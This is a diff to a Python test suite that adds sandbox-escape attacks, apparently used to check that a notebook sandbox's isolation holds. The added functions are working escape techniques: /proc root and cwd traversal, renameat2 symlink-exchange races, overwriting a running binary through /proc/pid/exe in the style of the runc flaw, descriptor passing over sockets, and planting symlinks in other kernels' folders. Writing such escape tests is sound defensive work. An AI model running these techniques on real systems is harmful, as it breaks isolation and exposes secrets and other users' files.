@@ -4,12 +4,17 @@ from __future__ import annotations
 
 import ctypes
 import os
+import select
+import socket
 import struct
+import subprocess
+import sys
 from typing import Any
 
 from tests.escapes.attack import ROOT, Attack, attack
 from tests.escapes.places import Place
 from tests.escapes.proof import prove
+from tests.escapes.shares import MovedFolder, NextKernel, Program, RestartedKernel
 from tests.escapes.targets import Descriptor, HostFile, Loot, Secret, SharedFile, Untouched
 from tests.escapes.tools import first, must, read
 
@@ -182,7 +187,8 @@ def the_control_groups_of_the_host(target: Any) -> list[str]:
 @attack(Loot, stopped_by="mount")
 def the_sockets_of_the_host(target: Any) -> list[str]:
     """List what runs on the machine by what lies in /run."""
-    return [name for name in os.listdir("/run") if name not in ("empty", "lower")]
+    ours = ("empty", "hidden", "trees")  # of the view: there, and empty
+    return [name for name in os.listdir("/run") if name != "lower" and (name not in ours or os.listdir(f"/run/{name}"))]
 
 
 @attack(Loot, stopped_by="pid")
@@ -274,3 +280,119 @@ def change_its_mode(target: Any) -> str:
     with open(target.path, "w") as file:
         file.write("changed")
     return "changed"
+
+
+@attack(Secret, stopped_by="mount")
+def by_the_root_of_its_own(target: Any) -> str:
+    """Go through /proc/self/root and /proc/thread-self/cwd, which are doors rather than links."""
+    climb = "../" * 32
+    places = ("/proc/self/root", "/proc/thread-self/root", f"/proc/self/cwd/{climb}", f"/proc/thread-self/cwd/{climb}")
+    return first(lambda place=place: read(place + target.path) for place in places)
+
+
+@attack(Secret, stopped_by="mount")
+def by_a_folder_that_is_exchanged(target: Any) -> str:
+    """Exchange a folder and a link while another thread goes through them, so that a check sees the one."""
+    place, link = f"swap-{os.getpid()}", f"link-{os.getpid()}"
+    os.mkdir(place)
+    os.symlink(os.path.dirname(target.path), link)
+    try:
+        last: Exception = OSError("it was never the link")
+        for _ in range(200):
+            must(316, -100, place.encode(), -100, link.encode(), 2)  # renameat2, RENAME_EXCHANGE
+            try:
+                return read(f"{place}/{target.name}")
+            except OSError as error:
+                last = error
+        raise last
+    finally:
+        for name in (place, link):
+            os.unlink(name) if os.path.islink(name) else os.rmdir(name)
+
+
+@attack(MovedFolder, stopped_by="mount")
+def by_a_folder_that_is_moved_away(target: Any) -> str:
+    """Be in a folder when its owner moves it out of the workspace, and look around from there."""
+    os.chdir(target.folder)
+    os.close(os.open("here", os.O_CREAT | os.O_WRONLY))
+    last: Exception = OSError("it was not moved")
+    for _ in range(100):
+        try:
+            return read("../notes.txt")
+        except OSError as error:
+            last = error
+        select.select([], [], [], 0.01)
+    raise last
+
+
+@attack(Program, stopped_by="mount", control=ROOT)
+def by_its_own_program(target: Any) -> str:
+    """Overwrite a program by the door that /proc keeps to it while it runs, as runc was opened in 2019."""
+    with subprocess.Popen([target.program], stdin=subprocess.PIPE) as process:
+        door = os.open(f"/proc/{process.pid}/exe", os.O_PATH)
+        process.communicate()
+    descriptor = os.open(f"/proc/self/fd/{door}", os.O_WRONLY | os.O_APPEND)
+    return f"{os.write(descriptor, b'mine')} bytes"
+
+
+@attack(Secret, stopped_by="mount")
+def by_a_socket_that_leads_there(target: Any) -> str:
+    """Have an open file sent over from whoever has one: here from a child that tries."""
+    ours, theirs = socket.socketpair()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            socket.send_fds(theirs, [b"x"], [os.open(target.path, os.O_RDONLY)])
+        finally:
+            os._exit(0)
+    theirs.close()
+    _, descriptors, _, _ = socket.recv_fds(ours, 1, 1)
+    os.waitpid(pid, 0)
+    return os.read(descriptors[0], 100).decode() if descriptors else ""
+
+
+@attack(Secret, stopped_by="mount")
+def by_a_program_that_reads_for_it(target: Any) -> str:
+    """Have another program read it: the shell, tar, and whatever else follows names."""
+    commands = (["/bin/cat", target.path], ["/bin/sh", "-c", f"read x < {target.path} && echo $x"])
+    for command in commands:
+        said = subprocess.run(command, capture_output=True, text=True, check=False).stdout
+        if said:
+            return said
+    return ""
+
+
+@attack(RestartedKernel, stopped_by="workspace")
+def by_a_link_where_a_kernel_restarts(target: Any) -> str:
+    """Put a link in the place of a folder in which another notebook works, and wait until that is restarted."""
+    os.rename(target.folder, target.folder + "-before")
+    os.symlink(target.secret, target.folder)
+    return "put"
+
+
+COMES_AND_GOES = """
+import ctypes, os, sys, time
+libc = ctypes.CDLL(None)
+end = time.monotonic() + 4
+while time.monotonic() < end and not os.path.exists(sys.argv[3]):
+    libc.syscall(316, -100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)  # renameat2, RENAME_EXCHANGE
+"""
+
+
+def _goes_and_comes(target: Any) -> str:
+    """Exchange a folder and a link without end, while a kernel is being started there."""
+    os.symlink(target.secret, target.folder + "-before")
+    null = subprocess.DEVNULL
+    names = [target.folder + ending for ending in ("", "-before", "-over")]
+    command = [sys.executable, "-I", "-S", "-c", COMES_AND_GOES, *names]
+    subprocess.Popen(command, stdin=null, stdout=null, stderr=null, start_new_session=True)
+    return "begun"
+
+
+RACES = [
+    attack(NextKernel, stopped_by="workspace", name=name, wants=f"Exchange a folder and a link to {where} without end, "
+           "so that the next kernel that is started there gets the wrong one.", facts={"home": home},
+           seconds=30.0)(_goes_and_comes)
+    for name, where, home in (("by_a_link_that_comes_and_goes", "a secret", False),
+                              ("by_a_link_to_the_home_that_comes_and_goes", "the owner's home", True))
+]  # fmt: skip
